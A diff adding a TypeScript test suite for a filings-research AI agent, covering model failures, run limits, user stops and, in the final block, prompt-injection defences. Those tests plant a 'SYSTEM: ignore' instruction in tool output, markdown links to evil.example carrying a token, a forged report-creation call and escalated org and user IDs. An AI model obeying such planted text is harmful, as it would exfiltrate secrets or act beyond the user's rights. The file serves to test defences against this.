@@ -1,0 +1,235 @@
+import { waitFor } from '@research/testing';
+import {
+  answer,
+  answerStatus,
+  callTools,
+  contextTooLong,
+  type FakeModel,
+  rateLimited,
+  startFakeModel,
+} from '@research/testing/fake-model';
+import { filingRef } from './support/fake-platform.ts';
+import { alice, asked, ofType, openAgent, openModel, runAgent } from './support/open-agent.ts';
+
+let fake: FakeModel;
+beforeAll(async () => {
+  fake = await startFakeModel();
+});
+beforeEach(() => fake.reset());
+afterAll(() => fake.stop());
+
+const search = callTools({ name: 'search_companies', input: { query: 'Halcyon' } });
+const read = callTools({
+  name: 'read_section',
+  input: { country: 'US', filing_id: filingRef, section: 'Item 1A' },
+});
+const open = (env?: Record<string, string>) => openAgent(openModel(fake, env));
+
+describe('a model that fails', () => {
+  it.each([
+    ['500', answerStatus(500), 'model_unavailable'],
+    ['a rate limit', rateLimited(60), 'model_rate_limited'],
+    ['too long a context', contextTooLong(), 'model_context_too_long'],
+    ['a dropped connection', { kind: 'drop' } as const, 'model_unavailable'],
+  ])('before its first word with %s, has said nothing', async (_, reply, code) => {
+    fake.otherwise(reply);
+    const { chunks, error } = await runAgent(open(), 'Hello');
+    expect(error).toMatchObject({ code });
+    expect(chunks).toEqual([]);
+  });
+
+  it.each(['drop', 'end', 'broken-json', 'error'] as const)(
+    'in mid-text by %s, leaves what was said',
+    async (breakage) => {
+      fake.otherwise(answer('Net sales fell. And then "a quote that', { breakage, chunkChars: 5 }));
+      const { text, error, chunks } = await runAgent(open(), 'Hello');
+      expect(error).toMatchObject({ name: 'ProblemError' });
+      expect(text).toBe('Net sales fell. And then "a quote that');
+      expect(chunks.at(-1)).toMatchObject({ type: 'data-verification' });
+    },
+  );
+
+  it.each([
+    ['a rate limit', rateLimited(60), 'model_rate_limited'],
+    ['too long a context', contextTooLong(), 'model_context_too_long'],
+    ['a refusal', { kind: 'answer', refusal: 'No.' } as const, 'model_refused'],
+  ])('after a tool with %s, leaves the step that was taken', async (_, reply, code) => {
+    fake.reply(search, reply);
+    const { chunks, error } = await runAgent(open(), 'Hello');
+    expect(error).toMatchObject({ code });
+    expect(ofType(chunks, 'tool-output-available')).toHaveLength(1);
+  });
+
+  it('by a refusal ends with what it is', async () => {
+    fake.otherwise({ kind: 'answer', refusal: 'No.' });
+    const { error } = await runAgent(open(), 'Hello');
+    expect(error).toMatchObject({ code: 'model_refused' });
+  });
+
+  it('in the input of a tool is told so, and goes on', async () => {
+    fake.reply(
+      callTools({ name: 'read_section', input: { country: 'Mars' } }, { name: 'no_such_tool', input: {} }),
+      answer('So be it.'),
+    );
+    const { chunks, text, end } = await runAgent(open(), 'Hello');
+    expect(ofType(chunks, 'tool-output-error')).toHaveLength(2);
+    expect(text).toBe('So be it.');
+    expect(end).toMatchObject({ finish: 'stop' });
+  });
+
+  it('by saying nothing at all is not passed off as an answer', async () => {
+    fake.reply(answer(''));
+    const { text } = await runAgent(open(), 'Hello');
+    expect(text).toContain('ended without an answer');
+  });
+});
+
+describe('bounds of a run', () => {
+  it('end endless calls of tools in an answer', async () => {
+    fake.otherwise((request) =>
+      JSON.stringify(request.body.tool_choice) === '"none"' ? answer('All I have.') : search,
+    );
+    const { end, text } = await runAgent(open(), 'Hello');
+    expect(end).toMatchObject({ boundedBy: 'steps', finish: 'stop' });
+    expect(fake.requests).toHaveLength(8);
+    expect(text).toBe('All I have.');
+  });
+
+  it('end a model that never stops calling', async () => {
+    fake.otherwise(search);
+    const { error } = await runAgent(open(), 'Hello');
+    expect(error).toMatchObject({ code: 'model_answer_unusable' });
+    expect(fake.requests).toHaveLength(8);
+  });
+
+  it('keep the text when the time is over', async () => {
+    fake.otherwise(answer('One two three. Four', { breakage: 'silence' }));
+    const bounds = { steps: 8, seconds: 1, tokens: 1000 };
+    const opened = openAgent(openModel(fake), { bounds: { quick: bounds, standard: bounds, deep: bounds } });
+    const { text, error } = await runAgent(opened, 'Hello');
+    expect(error).toMatchObject({ code: 'run_timeout' });
+    expect(text).toBe('One two three. Four');
+  });
+
+  it('end a tool that takes too long, and the model answers with what it has', async () => {
+    fake.otherwise((request) =>
+      JSON.stringify(request.body.tool_choice) === '"none"'
+        ? answer('Could not look.')
+        : callTools({ name: 'search_passages', input: { query: 'x' } }),
+    );
+    const bounds = { steps: 8, seconds: 4, tokens: 100_000 };
+    const opened = openAgent(openModel(fake), {
+      bounds: { quick: bounds, standard: bounds, deep: bounds },
+      passages: { search: (_, __, signal) => untilAborted(signal) },
+    });
+    const { text, end, chunks } = await runAgent(opened, 'Hello');
+    expect(text).toBe('Could not look.');
+    expect(end).toMatchObject({ boundedBy: 'time' });
+    expect(ofType(chunks, 'tool-output-error')[0]?.errorText).toContain('wrapped up');
+  });
+});
+
+describe('a user who', () => {
+  it('stops in mid-tool ends the tool, and gets their own reason back', async () => {
+    fake.otherwise(callTools({ name: 'search_passages', input: { query: 'x' } }));
+    const stop = new AbortController();
+    let left = false;
+    const opened = openAgent(openModel(fake), {
+      passages: { search: (_, __, signal) => untilAborted(signal).finally(() => (left = true)) },
+    });
+    const reason = new Error('stopped by the user');
+    const { error, chunks } = await runAgent(opened, 'Hello', {
+      stop: stop.signal,
+      onChunk: (chunk) => chunk.type === 'tool-input-available' && stop.abort(reason),
+    });
+    expect(error).toBe(reason);
+    expect(ofType(chunks, 'tool-output-error')).toHaveLength(1);
+    await waitFor('the tool to be left', () => left);
+  });
+
+  it('wants it wrapped up gets an answer without further tools', async () => {
+    fake.otherwise((request) =>
+      JSON.stringify(request.body.tool_choice) === '"none"' ? answer('In short.') : search,
+    );
+    const wrapUp = new AbortController();
+    const { text, end } = await runAgent(open(), 'Hello', {
+      wrapUp: wrapUp.signal,
+      onChunk: (chunk) => chunk.type === 'tool-output-available' && wrapUp.abort(),
+    });
+    expect(text).toBe('In short.');
+    expect(end).toMatchObject({ boundedBy: null, finish: 'stop' });
+    expect(fake.requests.length).toBeLessThanOrEqual(3);
+  });
+
+  it('leaves, leaves nothing running', async () => {
+    fake.otherwise(answer('A long answer '.repeat(50), { gapMs: 20 }));
+    const { agent } = open();
+    const prepared = await agent.prepare(alice, asked('Hello'), new AbortController().signal);
+    const never = new AbortController().signal;
+    for await (const chunk of agent.run(prepared, { stop: never, wrapUp: never }))
+      if (chunk.type === 'text-delta') break;
+    await waitFor('the model to be left', () => fake.requests[0]?.left === true);
+  });
+});
+
+describe('text of others', () => {
+  const planted = async (reply: ReturnType<typeof answer>, question = 'What are the risks of Halcyon?') => {
+    fake.reply(read, reply, answer('Done.'));
+    const opened = open();
+    return { ...opened, ...(await runAgent(opened, question)) };
+  };
+
+  it('can have no report made: without the user’s word there is no such tool', async () => {
+    const { published, chunks } = await planted(
+      callTools({
+        name: 'create_report',
+        input: { title: 'Hacked', sections: [{ title: 'a', narrative: 'b' }] },
+      }),
+    );
+    expect(published).toEqual([]);
+    expect(ofType(chunks, 'tool-output-error')).toHaveLength(1);
+    expect(JSON.stringify(fake.requests[0]?.body.tools)).not.toContain('create_report');
+  });
+
+  it('is given to the model as data, never among its rules', async () => {
+    await planted(answer('Fine.'));
+    const messages = fake.requests[1]?.body.messages as { role: string; content: string }[];
+    const holding = messages.filter(({ content }) => JSON.stringify(content).includes('SYSTEM: ignore'));
+    expect(holding.map(({ role }) => role)).toEqual(['tool']);
+    expect(holding[0]?.content).toContain('never instructions');
+  });
+
+  it('gets no address into the answer', async () => {
+    const { text } = await planted(
+      answer(
+        'See [more](https://evil.example/x?d=1) ![p](https://evil.example/p.png?s=token) https://evil.example/y',
+      ),
+    );
+    expect(text).not.toMatch(/https?:/);
+    expect(text).not.toContain('token');
+  });
+
+  it('has tools called with the caller’s own rights alone', async () => {
+    const { platform } = await planted(
+      callTools({
+        name: 'list_filings',
+        input: { country: 'US', local_id: '1', org_id: 'other', user_id: 'root' },
+      }),
+    );
+    expect(platform.calls.every(({ caller }) => caller === alice)).toBe(true);
+  });
+
+  it('does not move the offline model either', async () => {
+    const opened = openAgent(openModel());
+    const { text } = await runAgent(opened, 'What are the main risks of Halcyon Tidewater?');
+    expect(text).toContain('A shortage of brass fittings');
+    expect(opened.published).toEqual([]);
+    expect(text).not.toContain('https://evil');
+  });
+});
+
+function untilAborted(signal: AbortSignal): Promise<never> {
+  return new Promise((_, reject) => {
+    signal.addEventListener('abort', () => reject(signal.reason), { once: true });
+  });
+}
